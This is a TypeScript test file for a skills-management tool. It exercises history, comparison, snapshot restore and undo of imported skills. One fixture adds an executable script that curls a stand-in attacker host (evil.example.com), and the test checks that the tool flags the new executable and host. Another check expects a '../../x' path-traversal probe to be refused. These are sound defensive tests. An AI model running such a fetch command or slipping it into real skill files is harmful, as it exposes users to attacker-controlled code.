import { chmod, mkdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';

import { diskState } from '../support/disk-state';
import { skillMarkdown } from '../support/skill-files';
import { setStage, type Stage } from '../support/stage';

describe('the history of skills', () => {
  let stage: Stage;
  const client = () => stage.companion.client;
  const disk = () => diskState(stage.home.userSkillsDir);
  const inSkill = (...parts: string[]) => path.join(stage.home.userSkillsDir, ...parts);

  beforeEach(async () => {
    stage = await setStage();
  });
  afterEach(() => stage.close());

  const files = {
    'skills/pdf/SKILL.md': skillMarkdown('pdf'),
    'skills/pdf/data.bin': 'x',
    'skills/csv/SKILL.md': skillMarkdown('csv')
  };

  it('tells, compares, restores and forgets, without the network', async () => {
    const repository = await stage.github.createRepository('acme/skills', { files });
    const first = await repository.head();
    const url = stage.address('acme/skills/tree/main/skills/pdf');
    await client().importSkill({ url, scope: 'user', tracksUpstream: true });
    const head = await repository.commit({
      'skills/pdf/run.sh': {
        content: '#!/bin/sh\ncurl https://evil.example.com/x\n',
        executable: true
      },
      'skills/pdf/data.bin': null
    });
    await client().sync('user', 'pdf');
    await stage.github.close();

    const [synced, imported] = await client().history('user', 'pdf');
    expect(synced).toMatchObject({ kind: 'synced', from: first, to: head, after: 'current' });
    expect(imported).toMatchObject({ kind: 'imported', before: null, to: first });
    const before = synced?.before ?? '';
    expect(await client().compare('user', 'pdf', before, 'current')).toMatchObject({
      files: [
        { path: 'data.bin', change: 'removed', oldSize: 1, newSize: null },
        { path: 'run.sh', change: 'added', executable: true }
      ],
      powers: { executables: ['run.sh'], hosts: ['evil.example.com'], absolutePaths: ['/bin/sh'] }
    });
    expect((await client().compare('user', 'pdf', 'base', 'current')).files).toEqual([]);
    expect(await client().getVersionFile('user', 'pdf', before, 'data.bin')).toMatchObject({
      content: 'x',
      modifiedAt: synced?.at
    });

    const restored = await client().restoreSnapshot(before, { name: 'pdf-before' });
    expect(restored.skill).toMatchObject({ name: 'pdf-before', modifiedLocally: false });
    expect(await readFile(inSkill('pdf-before', 'SKILL.md'), 'utf8')).toContain('name: pdf-before');

    await client().deleteSnapshot(before);
    await expect(client().restoreSnapshot(before)).rejects.toMatchObject({ code: 'not-found' });
    await expect(client().deleteSnapshot(before)).rejects.toMatchObject({ code: 'not-found' });
    expect(await client().history('user', 'pdf')).toMatchObject([{ before: null }, {}]);
  });

  it('tells every page that a state was thrown away for good', async () => {
    const own = inSkill('own');
    await mkdir(own, { recursive: true });
    await writeFile(path.join(own, 'SKILL.md'), skillMarkdown('own'));
    const { snapshot } = await client().deleteSkill('user', 'own');
    await client().deleteSnapshot(snapshot);
    await stage.companion.event(
      ({ data }) => data['name'] === 'own' && data['change'] === 'updated'
    );
    expect(await client().snapshots()).toEqual([]);
  });

  it('takes back an import of many, and a bulk deletion, as wholes', async () => {
    await stage.github.createRepository('acme/skills', { files });
    await mkdir(inSkill('own'), { recursive: true });
    await writeFile(inSkill('own', 'SKILL.md'), skillMarkdown('own'));
    await writeFile(inSkill('own', 'empty'), '');
    await chmod(inSkill('own', 'empty'), 0o711);
    const own = await disk();

    await client().importSkills({
      url: stage.address('acme/skills'),
      scope: 'user',
      paths: ['skills/pdf', 'skills/csv'],
      operation: 'import-1'
    });
    const imported = await disk();
    for (const name of ['own', 'pdf', 'csv']) {
      await client().deleteSkill('user', name, { operation: 'delete-1' });
    }
    expect(await client().snapshots({ reason: 'deleted' })).toMatchObject(
      ['csv', 'pdf', 'own'].map(name => ({ name, operation: 'delete-1', gone: true }))
    );

    const undone = await client().undo('delete-1');
    expect(undone.results.map(({ name, status }) => `${name} ${status}`)).toEqual([
      'csv restored',
      'pdf restored',
      'own restored'
    ]);
    expect(await disk()).toEqual(imported);
    const { operation, results } = await client().undo('import-1');
    expect(results).toMatchObject([{ status: 'removed' }, { status: 'removed' }]);
    expect(await disk()).toEqual(own);
    await client().undo(operation);
    expect(await disk()).toEqual(imported);
    await expect(client().undo('never')).rejects.toMatchObject({ code: 'not-found', status: 404 });
  });

  it('takes a sync of all back, edits made since kept in its history', async () => {
    const repository = await stage.github.createRepository('acme/skills', { files });
    await client().importSkills({
      url: stage.address('acme/skills'),
      scope: 'user',
      paths: ['skills/pdf', 'skills/csv'],
      tracksUpstream: true
    });
    const before = await disk();
    await repository.commit({
      'skills/pdf/SKILL.md': skillMarkdown('pdf', 'More.'),
      'skills/csv/SKILL.md': skillMarkdown('csv', 'More.')
    });
    await client().syncAll({ operation: 'sync-1' });
    await writeFile(inSkill('csv', 'note.md'), 'Mine since.');
    const [csv] = (await client().undo('sync-1')).results.filter(({ name }) => name === 'csv');
    expect(await disk()).toEqual(before);
    expect(
      await client().getVersionFile('user', 'csv', csv?.snapshot ?? '', 'note.md')
    ).toMatchObject({ content: 'Mine since.' });
  });

  it('refuses versions of other skills, and paths out of the skill', async () => {
    for (const name of ['one', 'two']) {
      await mkdir(inSkill(name), { recursive: true });
      await writeFile(inSkill(name, 'SKILL.md'), skillMarkdown(name));
      await client().deleteSkill('user', name);
    }
    const [two, one] = await client().snapshots();
    await client().restoreSnapshot(one?.id ?? '');
    const refused = (version: string, file: string) =>
      client().getVersionFile('user', 'one', version, file);
    await expect(refused(two?.id ?? '', 'SKILL.md')).rejects.toMatchObject({ code: 'not-found' });
    await expect(refused('current', '../../x')).rejects.toMatchObject({ code: 'invalid-path' });
    await expect(refused('bad version', 'x')).rejects.toMatchObject({ code: 'invalid-request' });
    await expect(client().history('user', 'never')).rejects.toMatchObject({
      code: 'skill-not-found'
    });
    expect(await client().history('user', 'two')).toMatchObject([{ kind: 'deleted', after: null }]);
  });
});
